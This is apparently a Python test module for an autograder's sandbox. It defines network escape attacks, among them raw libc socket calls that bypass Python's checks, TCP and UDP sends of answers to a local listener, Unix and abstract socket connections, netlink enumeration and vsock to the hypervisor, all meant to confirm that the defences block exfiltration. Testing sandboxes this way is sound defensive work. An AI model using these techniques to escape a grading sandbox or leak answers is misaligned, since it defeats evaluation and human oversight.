"""The network: out to anybody who listens. Here that is the machine's own listener."""

from __future__ import annotations

from autograder.sandbox.defences import Defence
from tests.attacks.attack import Attack, thief
from tests.attacks.evidence import Evidence

OUT = (Defence.NETWORK, Defence.SECCOMP, Defence.LANDLOCK)


def _heard(seen: Evidence) -> bool:
    return b"ANSWERS" in seen.heard


# Past Python's own refusal, which only explains the kernel's.
_RAW = """
import ctypes, os, socket, struct
libc = ctypes.CDLL(None, use_errno=True)
def checked(result):
    if result < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return result
def opened(family, kind, protocol=0):
    return checked(libc.socket(int(family), int(kind), protocol))
def inet(port, host=(127, 0, 0, 1)):
    return struct.pack("<H", 2) + struct.pack(">H", port) + bytes(host) + bytes(8)
def unix(path):
    return struct.pack("<H", 1) + path
def call(fd, address):
    checked(libc.connect(fd, address, len(address)))
"""

ATTACKS: dict[str, Attack] = {
    "tcp": thief(
        "calls a listener and tells it answers", *OUT, above=_RAW, won=_heard,
        steal="""
fd = opened(socket.AF_INET, socket.SOCK_STREAM)
call(fd, inet(@PORT@))
os.write(fd, b"ANSWERS")
return WANTED.encode() in os.read(fd, 100)
""",
    ),
    "udp": thief(
        "sends a datagram, as a question to a name server would leave", *OUT, above=_RAW, won=_heard,
        steal="""
fd = opened(socket.AF_INET, socket.SOCK_DGRAM)
address = inet(@PORT@)
checked(libc.sendto(fd, b"ANSWERS", 7, 0, address, len(address)))
import time
time.sleep(0.05)
return True
""",
    ),
    "a socket's path": thief(
        "calls a service of the host by its socket's path", Defence.FILES, *OUT, above=_RAW,
        steal="""
fd = opened(socket.AF_UNIX, socket.SOCK_STREAM)
call(fd, unix(b"@ROOT@/socket-@PORT@\\0"))
return WANTED.encode() in os.read(fd, 100)
""",
    ),
    "an abstract socket": thief(
        "calls a service of the host by an abstract name, which no mount hides", *OUT, above=_RAW,
        steal="""
fd = opened(socket.AF_UNIX, socket.SOCK_STREAM)
call(fd, unix(b"\\0siege-listener-@PORT@"))
return WANTED.encode() in os.read(fd, 100)
""",
    ),
    "interfaces": thief(
        "asks the kernel which networks the machine is in", *OUT, above=_RAW,
        steal="""
fd = opened(16, socket.SOCK_RAW)  # netlink: every address of the machine
ask = struct.pack("<IHHIIBxxxI", 24, 22, 0x301, 1, 0, 0, 0)
checked(libc.send(fd, ask, len(ask), 0))
answer = ctypes.create_string_buffer(1 << 16)
got = checked(libc.recv(fd, answer, len(answer), 0))
return bytes([127, 0, 0, 1]) in answer.raw[:got]
""",
    ),
    "the hypervisor": thief(
        "opens a socket to the machine below this one, which no network namespace holds", Defence.SECCOMP, above=_RAW,
        steal="return opened(40, socket.SOCK_STREAM) > 0",
    ),
    "a listener of its own": thief(
        "waits to be called by somebody on the same machine", *OUT, above=_RAW,
        steal="""
fd = opened(socket.AF_INET, socket.SOCK_STREAM)
address = inet(0)
checked(libc.bind(fd, address, len(address)))
return libc.listen(fd, 1) == 0
""",
    ),
}  # fmt: skip
